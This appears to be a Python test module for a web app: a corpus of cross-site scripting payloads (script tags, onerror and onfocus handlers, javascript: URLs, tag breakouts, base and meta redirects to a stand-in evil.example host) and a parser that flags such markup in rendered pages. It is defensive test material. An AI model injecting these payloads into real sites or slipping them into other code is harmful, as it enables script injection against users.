"""An XSS payload corpus (written for these tests), and a check that a page holds none of it as markup.

Each payload tries a different way out of where ingested text lands: element content, a quoted or unquoted
attribute, a URL, a script or style block, an HTML comment, a template, the map's data attributes.
A payload that ran would set `window.__xss`.
"""

from __future__ import annotations

from html.parser import HTMLParser

__all__ = ["PAYLOADS", "Markup", "markup_of"]

PAYLOADS: tuple[str, ...] = (
    "<script>window.__xss=1</script>",
    "<img src=x onerror=window.__xss=2>",
    '"><svg onload=window.__xss=3>',
    '\'><iframe srcdoc="<script>parent.__xss=4</script>"></iframe>',
    "</textarea></title></style><script>window.__xss=5</script>",
    '<a href="javascript:window.__xss=6">look</a>',
    "javascript:window.__xss=7",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=8>",
    "<details open ontoggle=window.__xss=9>",
    '" autofocus onfocus="window.__xss=10" x="',
    "' onmouseover='window.__xss=11' x='",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<form action=https://evil.example/><button>go</button></form>",
    '<object data="data:text/html,<script>parent.__xss=12</script>"></object>',
    "<!-- <script>window.__xss=13</script> -->",
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7}",
    "&lt;script&gt;window.__xss=14&lt;/script&gt;",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<svg><animate onbegin=window.__xss=15 attributeName=x dur=1s>",
    "\u2028\u2029</script><script>window.__xss=16</script>",
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=17>">',
)

# What a page may never contain as markup, whatever it shows (`details` and `svg` are
# ours, for the edit form and the charts: a payload's `ontoggle` or `onload` is caught as an attribute).
_FORBIDDEN_TAGS = frozenset(
    {"iframe", "object", "embed", "math", "base", "img", "noscript", "textarea", "mglyph"}
)


class Markup(HTMLParser):
    """The elements of a page: (tag, attributes) in order, and its text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def problems(self) -> list[str]:
        """Markup that only a payload would have put there."""
        found: list[str] = []
        for tag, attrs in self.elements:
            src = attrs.get("src") or ""
            if tag in _FORBIDDEN_TAGS or tag == "style":
                found.append(f"<{tag}>")
            if tag == "script" and not src.startswith(("/static/", "/vendor/")):
                found.append(f"<script {attrs}>")
            if tag == "link" and not (attrs.get("href") or "").startswith("/"):
                found.append(f"<link {attrs}>")
            if tag == "meta" and "http-equiv" in attrs:
                found.append(f"<meta {attrs}>")
            if tag == "form" and not (attrs.get("action") or "/").startswith("/"):
                found.append(f"<form {attrs}>")
            for name, value in attrs.items():
                if name.startswith("on") or name in ("autofocus", "srcdoc", "style", "formaction"):
                    found.append(f"<{tag} {name}=…>")
                scheme = (value or "").strip().lower().split(":", 1)[0] if ":" in (value or "") else ""
                if name in ("href", "src", "action", "data") and scheme in ("javascript", "data", "vbscript"):
                    found.append(f"<{tag} {name}={value[:40]}>")
        return found


def markup_of(html: str) -> Markup:
    """Parse a page."""
    parser = Markup()
    parser.feed(html)
    parser.close()
    return parser
